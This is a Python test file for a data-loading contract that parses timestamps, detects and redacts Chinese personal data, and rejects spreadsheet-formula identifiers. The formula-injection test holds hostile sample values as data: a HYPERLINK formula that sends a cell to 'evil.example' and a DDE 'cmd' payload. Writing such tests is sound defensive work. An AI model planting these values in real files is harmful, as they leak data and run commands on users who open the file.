"""Value rules: timestamps, integers, personal data detection and redaction."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from earlywarn.contract import load_dataset
from earlywarn.contract.personal import (
    CARD_TOKEN,
    MOBILE_TOKEN,
    echoed_text,
    personal_data_code,
    redact_text,
)
from tests.conftest import DatasetWriter, case_row, contact_row, valid_id_number


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("2025-03-04T09:30:00", datetime(2025, 3, 4, 9, 30)),
        ("2025-03-04", datetime(2025, 3, 4)),
        ("2025-03-04T09:30", datetime(2025, 3, 4, 9, 30)),
        ("2025-03-04 09:30:00", datetime(2025, 3, 4, 9, 30)),
        ("2025-03-04T09:30:00.250", datetime(2025, 3, 4, 9, 30, 0, 250000)),
        # An offset is converted to office time (Asia/Shanghai, UTC+8).
        ("2025-03-04T01:30:00Z", datetime(2025, 3, 4, 9, 30)),
        ("2025-03-04T09:30:00+08:00", datetime(2025, 3, 4, 9, 30)),
        ("2025-03-03T20:30:00-05:00", datetime(2025, 3, 4, 9, 30)),
        ("2025-03-04T10:30:00+0900", datetime(2025, 3, 4, 9, 30)),
    ],
)
def test_timestamps_become_office_local_time(
    write_dataset: DatasetWriter, written: str, expected: datetime
) -> None:
    dataset = load_dataset(write_dataset(contacts=[contact_row(0, occurred_at=written)]))
    assert dataset.contacts.get_column("occurred_at").to_list() == [expected]


@pytest.mark.parametrize(
    "written",
    ["2025-02-29", "04/03/2025", "2025-03-04T25:00:00", "20250304", "2025-3-4", "now",
     "2025-03-04T09:30:60", "9999-12-31T23:59:59-05:00", "0001-01-01T00:00:00"],
)  # fmt: skip
def test_malformed_timestamps_are_errors(write_dataset: DatasetWriter, written: str) -> None:
    with pytest.raises(Exception, match="contract error"):
        load_dataset(write_dataset(contacts=[contact_row(0, occurred_at=written)]))


def test_parquet_with_native_types_and_time_zone(write_dataset: DatasetWriter) -> None:
    path = write_dataset()
    contacts = pl.read_csv(path / "contacts.csv", infer_schema=False).with_columns(
        pl.col("occurred_at").str.to_datetime("%Y-%m-%dT%H:%M:%S").dt.replace_time_zone("UTC"),
        pl.col("group_size").cast(pl.Int16),
    )
    contacts.write_parquet(path / "contacts.parquet")
    (path / "contacts.csv").unlink()
    dataset = load_dataset(path)
    assert dataset.contacts.get_column("occurred_at").to_list()[0] == datetime(2025, 3, 5, 18)
    assert dataset.contacts.schema["group_size"] == pl.Int32


def test_typed_tables(write_dataset: DatasetWriter) -> None:
    dataset = load_dataset(write_dataset())
    assert dataset.cases.schema["registered_at"] == pl.Datetime("us")
    assert isinstance(dataset.contacts.schema["level"], pl.Enum)
    levels = dataset.contacts.schema["level"]
    assert isinstance(levels, pl.Enum)
    assert levels.categories.to_list()[:3] == ["village", "township", "county"]


def _code(value: str, check_names: bool = True) -> str | None:
    frame = pl.DataFrame({"v": [value]}).select(personal_data_code("v", check_names=check_names))
    return frame.item()  # type: ignore[no-any-return]


def test_resident_id_needs_a_valid_check_character() -> None:
    number = valid_id_number()
    wrong = number[:-1] + ("0" if number[-1] != "0" else "1")
    assert _code(number) == "personal_id_number"
    assert _code("PID-" + number) == "personal_id_number"
    assert _code(wrong) is None
    assert _code("C20250101000123456789") is None  # a long case number is not an ID


def test_mobiles_and_names() -> None:
    assert _code("13812345678") == "personal_mobile"
    assert _code("P13812345678") == "personal_mobile"
    assert _code("12345678901") is None
    assert _code("王小明") == "personal_name"
    assert _code("王小明", check_names=False) is None  # unit names are Chinese words
    assert _code("P0001") is None


@pytest.mark.parametrize(
    "value",
    ["+8613812345678", "8613812345678", "138-1234-5678", "138 1234 5678", "+86 138 1234 5678",
     "１３８１２３４５６７８"],
)  # fmt: skip
def test_mobiles_as_people_write_them(value: str) -> None:
    assert _code(value) == "personal_mobile"
    assert MOBILE_TOKEN in redact_text(f"电话{value}。")


@pytest.mark.parametrize("value", [" 张三", "张三 ", "张 三", "李·娜", "张\u200b三"])
def test_names_with_spaces_dots_or_invisible_joiners(value: str) -> None:
    assert _code(value) == "personal_name"


@pytest.mark.parametrize(
    "value",
    ["C-138 1234 5678", "P-138 1234 5678", "张三 138-1234-5678", "138 1234  5678",
     "138—1234—5678", "138–1234–5678", "138.1234.5678", "1381 234 5678"],
)  # fmt: skip
def test_mobiles_in_groups_inside_an_identifier(value: str) -> None:
    """A grouped number is personal data wherever it sits in the value (it was found
    only when it was the whole value), and redacted in text however it is grouped."""
    assert _code(value, check_names=False) == "personal_mobile"
    assert "5678" not in redact_text(f"手机{value}。")


def test_ids_in_groups_inside_an_identifier() -> None:
    number = valid_id_number()
    for value in (
        f"C-{number[:6]}-{number[6:14]}-{number[14:]}",
        f"ID:{number[:6]} {number[6:10]} {number[10:14]} {number[14:]}",
        " ".join(number[i : i + 4] for i in range(0, 18, 4)),
        f"{number[:6]}.{number[6:14]}.{number[14:]}",
    ):
        assert _code(value) == "personal_id_number", value
        assert number[-4:] not in redact_text(f"身份证 {value}。"), value
    for kept in ("2024-000123-01", "XF-2024-001234", "2023-12-31 13:30"):
        assert _code(kept) is None and redact_text(kept) == kept


def test_ids_as_people_write_them() -> None:
    number = valid_id_number()
    spaced = f"{number[:6]} {number[6:14]} {number[14:]}"
    full_width = number.translate(str.maketrans("0123456789X", "０１２３４５６７８９Ｘ"))
    for value in (spaced, full_width):
        assert _code(value) == "personal_id_number", value
        assert redact_text(f"身份证{value}") == "身份证[身份证号]", value
    assert _code("2025-0301-1234") is None  # dates and case numbers are not grouped numbers


@pytest.mark.parametrize(
    ("column", "value"),
    [("case_id", '=HYPERLINK("http://evil.example/?x="&A1,"C0")'), ("case_id", "@SUM(1)"),
     ("petitioner_id", "+1"), ("county_code", "-2+3+cmd|' /C calc'!A0"),
     ("township_code", "\tT01"), ("responsible_unit", "-U01")],
)  # fmt: skip
def test_an_identifier_a_spreadsheet_would_run_is_refused(
    write_dataset: DatasetWriter, column: str, value: str
) -> None:
    """The score file and the features keep identifiers exactly (machines read them),
    so one that a spreadsheet would run as a formula may not get in at all."""
    with pytest.raises(Exception, match="formula"):
        load_dataset(write_dataset(cases=[case_row(0, **{column: value})]))


def test_a_dash_alone_or_before_a_number_is_a_value(write_dataset: DatasetWriter) -> None:
    cases = [case_row(0, township_code="-"), case_row(1, responsible_unit="-1"), case_row(2)]
    dataset = load_dataset(write_dataset(cases=cases))
    assert dataset.cases["township_code"].to_list()[0] == "-"


def test_redaction_covers_neighbouring_numbers() -> None:
    text = f"电话13812345678,13912345678 身份证{valid_id_number()} 座机010-12345678"
    assert redact_text(text) == "电话[手机号],[手机号] 身份证[身份证号] 座机[电话]"
    landlines = "座机(0571)88889999、（0571）88889999 或 0571 88889999"
    assert redact_text(landlines) == "座机[电话]、[电话] 或 [电话]"
    assert redact_text("金额13500元，2025-03-04 办结") == "金额13500元，2025-03-04 办结"


@given(st.text(alphabet="0123456789abc,- 号码+—.", max_size=60))
def test_redacted_text_holds_no_mobile_number(text: str) -> None:
    redacted = redact_text(text)
    assert _code(redacted, check_names=False) != "personal_mobile"
    assert _code(redacted, check_names=False) != "personal_id_number"


def test_summary_never_reaches_tables_unredacted(
    write_dataset: DatasetWriter, tmp_path: Path
) -> None:
    cases = [case_row(0, summary=f"身份证号{valid_id_number()}"), case_row(1), case_row(2)]
    dataset = load_dataset(write_dataset(cases=cases))
    assert dataset.cases.get_column("summary").to_list()[0] == "身份证号[身份证号]"


def test_a_tab_alone_is_a_missing_value_not_a_formula(
    write_dataset: DatasetWriter, tmp_path: Path
) -> None:
    from earlywarn.contract import Mode

    cases = [case_row(0, petitioner_id="\t"), case_row(1), case_row(2)]
    dataset = load_dataset(write_dataset(cases=cases), Mode.LENIENT, tmp_path / "q")
    codes = set(dataset.report.issues["code"].to_list())
    assert "missing_value" in codes and "formula_like" not in codes


def _kind_code(value: str, **kind: bool) -> str | None:
    frame = pl.DataFrame({"v": [value]}).select(personal_data_code("v", **kind))  # type: ignore[arg-type]
    return frame.item()  # type: ignore[no-any-return]


@pytest.mark.parametrize(
    ("value", "code"),
    [("欧阳建华", "personal_name"), ("县信访局张卫东", "personal_name"),
     ("住建局 王建国", "personal_name"), ("县人社局（经办人李秀英）", "personal_name"),
     ("李局", "personal_name"), ("王主任", "personal_name"), ("县住建局", None),
     ("城关镇王家村", None), ("市信访局来访接待科", None), ("高院", None),
     ("330211-RSJ", None)],
)  # fmt: skip
def test_a_handlers_name_where_a_unit_belongs(value: str, code: str | None) -> None:
    """Offices write the unit with its handler (科室+经办人): the name reached the list's
    reasons, the printed ledger and the store."""
    assert _kind_code(value, check_names=False, unit_names=True) == code
    if code is not None:  # never repeated in a message or a quarantine file
        assert echoed_text(value) == "[疑似人名 masked]"


@pytest.mark.parametrize(
    ("value", "code"),
    [("张卫东等12人", "personal_name"), ("张卫东、李秀英", "personal_name"),
     ("买买提·吐尔逊", "personal_name"), ("P-张卫东", "personal_name"),
     ("Zhang Weidong", "personal_name"), ("zwd@163.com", "personal_contact"),
     ("0571-87650999", "personal_contact"), ("330211197008161060", "personal_id_number"),
     ("330211700816106", "personal_id_number"), ("P00012", None), ("XFR2024001", None),
     ("江北-0001", None), ("XFR-鄞州区-0001", None)],  # a place before a code stays
)  # fmt: skip
def test_a_person_where_the_petitioners_pseudonym_belongs(value: str, code: str | None) -> None:
    """Names of a group, a family or of five characters and more, an e-mail, a landline,
    an ID with a wrong check character or of 15 digits were kept as pseudonyms."""
    assert _kind_code(value, check_names=True, person_id=True) == code


@pytest.mark.parametrize(
    "written",
    ["0571 8765 0007", "010-6123 0010", "0571-8765-4321", "(0571)-8765 4321",
     "+86 571 8765 4321", "+86-571-87654321"],
)  # fmt: skip
def test_landlines_in_groups_are_redacted(written: str) -> None:
    """A review's reason may hold the number called; these forms were kept as typed."""
    assert redact_text(f"已电话联系{written}，") == "已电话联系[电话]，"
    assert redact_text("2024-03-15 09:30:00 金额12000元") == "2024-03-15 09:30:00 金额12000元"


@pytest.mark.parametrize(
    "written",
    ["6222021234567890123", "6222 0212 3456 7890 123", "6228-4800-1234-5678", "4367421234567890"],
)  # fmt: skip
def test_bank_card_numbers_are_redacted_whole(written: str) -> None:
    """A card's number was kept, or written in groups lost only its last 15 digits."""
    assert redact_text(f"已退款至卡号{written}。") == f"已退款至卡号{CARD_TOKEN}。"
    # An ID of 18 characters stays an ID; a short number stays as typed.
    assert redact_text("身份证330211197008161060") == "身份证[身份证号]"
    assert redact_text("编号 3302111234，金额12000元") == "编号 3302111234，金额12000元"
